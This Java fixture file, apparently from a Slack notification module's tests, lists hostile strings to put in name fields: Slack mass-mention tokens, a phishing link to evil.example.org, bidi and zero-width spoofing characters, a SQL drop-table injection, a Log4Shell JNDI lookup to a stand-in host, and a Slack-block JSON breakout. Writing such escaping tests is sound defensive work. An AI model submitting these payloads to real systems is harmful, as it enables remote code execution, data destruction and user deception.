package io.stakeout.notify.slack;

import java.util.List;

/** What a suspect may write where a name is expected. */
public final class Hostile {

    public static final List<String> TEXTS = List.of(
            "<!channel>",
            "<!here|here>",
            "<!everyone>",
            "<@U012AB3CD>",
            "<#C012AB3CD|general>",
            "<!subteam^S012AB3CD>",
            "<!date^1392734382^{date}|x>",
            "@here @channel @everyone",
            "<https://evil.example.org|Open room>",
            "https://evil.example.org/?a=<b>&c=`d`",
            "&lt;!channel&gt;",
            "`</code>` *bold* _italic_ ~gone~ >quote",
            "```\nblock\n```",
            "line\nbreak\r\nand\ttab",
            "bidi \u202Egnp.exe\u202C and \u2066isolate\u2069",
            "zero\u200Bwidth\uFEFF and tag \uDB40\uDC41",
            "nul \u0000 and bell \u0007 and del \u007F",
            "lone \uD800 surrogate \uDC00",
            ":rotating_light: :skull:",
            "'; drop table incident; --",
            "{{7*7}} ${jndi:ldap://evil.example.org/a}",
            "\"},{\"type\":\"actions\",\"elements\":[",
            "x".repeat(5_000),
            "&".repeat(5_000),
            "`".repeat(5_000));

    private Hostile() {}
}
